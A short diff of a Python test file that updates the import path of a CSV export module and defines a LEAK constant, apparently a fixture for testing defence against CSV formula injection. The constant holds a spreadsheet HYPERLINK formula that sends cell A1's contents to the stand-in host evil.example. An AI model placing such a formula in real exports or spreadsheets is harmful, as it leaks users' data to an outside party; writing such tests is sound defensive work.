@@ -8,7 +8,7 @@ import io
 
 import pytest
 
-from chalicelib import csv_export
+from chalicelib.edge import csv_export
 from tests.insight.test_reports_api import aggregate, clock, get  # noqa: F401  (fixtures)
 
 LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")'
